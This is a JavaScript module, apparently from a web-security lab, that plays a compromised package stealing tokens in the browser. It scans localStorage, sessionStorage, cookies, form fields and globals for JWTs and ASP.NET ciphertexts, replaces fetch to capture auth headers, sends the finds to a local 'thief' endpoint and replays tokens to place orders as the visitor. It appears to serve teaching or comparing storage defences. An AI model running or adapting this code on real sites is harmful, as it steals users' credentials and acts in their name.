// A hostile script, as a compromised package would contain it. It runs with the page's own rights. What it steals is sent to the thief's box
// on this server; a real one would send it to a server of its own, as far as the page's policy allows.

const tokens = text => [...new Set(text.match(/ey[\w-]{10,}\.[\w-]{10,}\.[\w-]{20,}/g) ?? [])].slice(0, 10);

// What ASP.NET's Data Protection encrypted begins with its magic number.
const ciphertexts = text => [...new Set(text.match(/CfDJ8[\w-]{100,}/g) ?? [])].slice(0, 3);

const entries = storage => Object.keys(storage).map(key => [key, storage.getItem(key)]);

const textOf = value => { try { return typeof value === 'string' ? value : value?.constructor === Object ? JSON.stringify(value) : ''; } catch { return ''; } };

const looks = {
  localStorage: () => entries(localStorage),
  sessionStorage: () => entries(sessionStorage),
  'document.cookie': () => document.cookie.split('; ').filter(Boolean).map(cookie => cookie.split('=', 2)),
  page: () => [['text', document.documentElement.textContent], ...[...document.querySelectorAll('input, textarea')].map(field => [field.name, field.value])],
  globals: () => Object.entries(window).map(([name, value]) => [name, textOf(value)]),
};

const plainFetch = window.fetch;

const send = (box, loot) => plainFetch(`/labs/thief/${box}`, {
  method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(loot),
});

/** Looks into every place that a script can read, and sends what it found. */
export async function steal(box) {
  await send(box, Object.entries(looks).map(([place, look]) => {
    const started = performance.now();
    let found = [];
    try { found = look(); } catch { /* The browser blocks this place. */ }
    const text = found.map(([, value]) => value).join('\n');
    const names = place === 'page' || place === 'globals' ? [] : found.map(([name]) => name).slice(0, 10);
    return { place, tokens: tokens(text), names, milliseconds: performance.now() - started, ciphertexts: ciphertexts(text) };
  }));
}

let sending = [];

/** Replaces fetch, and sees every request of the page. */
export function listen(box) {
  window.fetch = (...request) => {
    const started = performance.now();
    const heard = tokens([...new Request(...request).headers.values()].join('\n'));
    if (heard.length) sending.push(send(box, [{ place: 'fetch', tokens: heard, names: [], milliseconds: performance.now() - started }]));
    return plainFetch(...request);
  };
}

/** Restores fetch. */
export async function leave() {
  window.fetch = plainFetch;
  await Promise.all(sending);
  sending = [];
}

/** Places an order in the visitor's name. The script holds no token: the browser adds the cookie that no script can read. */
export async function order(exchange) {
  const answer = await plainFetch('/api/orders', {
    method: 'POST', headers: { 'Content-Type': 'application/json', 'X-Exchange-Id': exchange }, body: JSON.stringify({ item: 'espresso' }),
  });
  return answer.status;
}

const placeOf = token => { try { return JSON.parse(new TextDecoder().decode(Uint8Array.from(atob(token.split('.')[1].replace(/-/g, '+').replace(/_/g, '/')), c => c.charCodeAt(0)))).place; } catch { return null; } };

// The script has read the token: it sends it itself.
const asBearer = look => async place => {
  const token = tokens(looks[look]().map(([, value]) => value).join('\n')).find(text => placeOf(text) === place);
  return token ? (await plainFetch('/api/orders', { headers: { Authorization: `Bearer ${token}` }, credentials: 'omit' })).status : null;
};

// It has not read it, and need not: the browser or the server adds the token.
const bySession = async place => (await plainFetch(`/labs/copies/orders?place=${encodeURIComponent(place)}`)).status;

// It presses the page's own button, and reads what the page says then.
const byButton = async () => {
  const button = document.getElementById('use-protected');
  const before = button?.dataset.uses;
  button?.click();
  for (let waits = 0; button && waits < 100 && button.dataset.uses === before; waits++) await new Promise(done => setTimeout(done, 50));
  return button && button.dataset.uses !== before ? Number(button.dataset.status) : null;
};

const ways = {
  'localStorage': asBearer('localStorage'),
  'sessionStorage': asBearer('sessionStorage'),
  'Cookie that scripts can read': asBearer('document.cookie'),
  // The page's own module does it for the script.
  'A script’s memory': async () => (await import('../storage.js')).use('memory'),
  'ProtectedLocalStorage': byButton,
};

/** Acts from inside the page with the token of each place. */
export async function act(places) {
  const acts = [];
  for (const place of places) acts.push({ place, status: await (ways[place] ?? bySession)(place).catch(() => null) });
  return acts;
}
